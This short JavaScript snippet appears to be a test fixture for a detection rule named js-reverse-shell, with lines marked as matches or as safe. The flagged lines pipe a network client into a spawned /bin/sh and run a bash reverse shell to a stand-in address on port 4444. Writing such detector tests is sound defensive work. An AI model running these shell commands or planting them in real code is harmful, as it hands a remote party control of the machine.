const sh = cp.spawn("/bin/sh", []);
// ruleid: js-reverse-shell
client.pipe(sh.stdin);
// ruleid: js-reverse-shell
cp.exec("bash -i >& /dev/tcp/192.0.2.7/4444 0>&1");
const cat = cp.spawn("cat", []);
// ok: js-reverse-shell
input.pipe(cat.stdin);
